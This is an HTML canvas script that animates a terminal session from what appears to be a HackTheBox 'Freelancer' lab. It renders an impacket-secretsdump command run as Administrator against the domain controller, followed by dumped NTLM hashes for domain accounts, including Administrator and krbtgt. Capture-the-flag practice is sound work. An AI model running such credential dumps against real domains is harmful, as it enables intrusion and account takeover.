
These frames come from a looping animation (914x316 px, 8 s). An HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #23252e; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="914" height="316"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');

const LOOP = 8000, LEFT = 3, CELL = 8, ROW = 16, CURSOR_Y = 292;
const FONT = '13.333px "Noto Sans Mono", monospace';
const COLOR = {
  back: '#23252e', text: '#fcfcfc', blue: '#0087af', gray: '#585858',
  dim: '#bcbcbc', bright: '#e4e4e4', line: '#8c8c8c',
  green: '#49b2a0', purple: '#924fa9', orange: '#f19a48', thumb: '#5b5d64'
};

const LM_HASH = 'aad3b435b51404ee'.repeat(2);
const account = (user, id, hash) => `${user}:${id}:${LM_HASH}:${hash}:::`;
const member = (user, id, hash) => account('freelancer.htb\\' + user, id, hash);

const output = [
  'Impacket v0.11.0 - Copyright 2023 Fortra',
  '',
  '[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)',
  '[*] Using the DRSUAPI method to get NTDS.DIT secrets',
  account('Administrator', 500, '0039318f1e8274633445bce32ad1a290'),
  account('Guest', 501, '31d6cfe0d16ae931b73c59d7e0c089c0'),
  account('krbtgt', 502, 'd238e0bfa17d575038efc070187a91c2'),
  member('nerikoHaldvorn', 1105, 'e8d62c7d57e5d74267ab6feb2f662674'),
  account('sshd', 1108, 'c1e83616271e8e17d69391bdcd335ab4'),
  account('DBArchiveAssister', 1112, 'c4b746db703d1af5575b5c3d69f57bab'),
  account('dbx_job', 1114, 'af7b9d0557964265115d018b5cff6f8a'),
  account('penna482', 1116, '67d4ae78a155aab3d4aa602da518c051'),
  member('tilo.brandu', 1124, '22db50a324b9a34ea898a290c1284e25'),
  member('corwell.tandrick', 1126, 'af7b9d0557964265115d018b5cff6f8a'),
  member('pmorvo', 1127, '933a86eb32b385398ce5a474ce083447'),
  member('k.velmo', 1128, '933a86eb32b385398ce5a474ce083447')
];

// Enter is pressed at ENTER; the output then grows by two lines twice, and by one line after that.
const ENTER = 830;
const arrivals = [1900, 1900, 3900, 3900, 5200, 5400, 5630, 5900,
                  6130, 6400, 6600, 6830, 7170, 7370, 7570, 7830];

const cellX = col => LEFT + col * CELL;

function write(text, col, y, color = COLOR.text, bold = false) {
  ctx.font = (bold ? 'bold ' : '') + FONT;
  ctx.fillStyle = color;
  ctx.fillText(text, cellX(col), y + 12);
}

function writeOutput(text, y) {
  if (!text.endsWith(':::')) return write(text, 0, y);
  const end = text.length - 3;
  write(text.slice(0, end), 0, y);
  // The closing colons sit slightly closer together.
  [1, 0, -1].forEach((shift, i) => write(':', end + i + shift / CELL, y));
}

function ribbon(from, to, y, color) {
  const x = cellX(from), tip = cellX(to);
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.moveTo(x, y);
  ctx.lineTo(tip, y);
  ctx.lineTo(tip + 7, y + ROW / 2);
  ctx.lineTo(tip, y + ROW);
  ctx.lineTo(x, y + ROW);
  ctx.fill();
}

function chevron(col, y) {
  const x = cellX(col);
  ctx.strokeStyle = COLOR.line;
  ctx.lineWidth = 1;
  ctx.beginPath();
  ctx.moveTo(x + 0.5, y);
  ctx.lineTo(x + 7, y + ROW / 2);
  ctx.lineTo(x + 0.5, y + ROW);
  ctx.stroke();
}

function prompt(y) {
  ribbon(6, 35, y, COLOR.gray);
  ribbon(0, 6, y, COLOR.blue);
  chevron(10, y);
  chevron(22, y);
  write('vuli', 1, y, '#fff', true);
  write('~', 8, y, COLOR.dim);
  write('Box_Notes', 12, y, COLOR.dim);
  write('Freelancer', 24, y, COLOR.bright, true);
}

function command(y) {
  write('faketime', 37, y, COLOR.green);
  write('-f', 46, y, COLOR.purple);
  write('+5h impacket-secretsdump', 49, y);
  write("'freelancer.htb/Administrator@dc.freel", 74, y, COLOR.orange);
  write("ancer.htb'", 0, y + ROW, COLOR.orange);
  write('-k -no-pass -just-dc-ntlm -outputfile', 11, y + ROW, COLOR.purple);
  write("'dumped_secrets.ntlm'", 49, y + ROW, COLOR.orange);
}

function draw(time) {
  const entered = time >= ENTER;
  const shown = arrivals.filter(at => time >= at).length;
  const top = CURSOR_Y - ROW * (entered ? shown + 2 : 1);

  ctx.fillStyle = COLOR.back;
  ctx.fillRect(0, 0, 914, 316);
  for (let y = top; y > -ROW; y -= 2 * ROW) prompt(y);
  command(top);
  output.slice(0, shown).forEach((text, i) => writeOutput(text, top + (i + 2) * ROW));

  ctx.fillStyle = '#fff';
  ctx.fillRect(cellX(entered ? 0 : 70), CURSOR_Y, CELL, 15);
  ctx.fillStyle = COLOR.thumb;
  ctx.fillRect(911, 287, 3, 29);
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
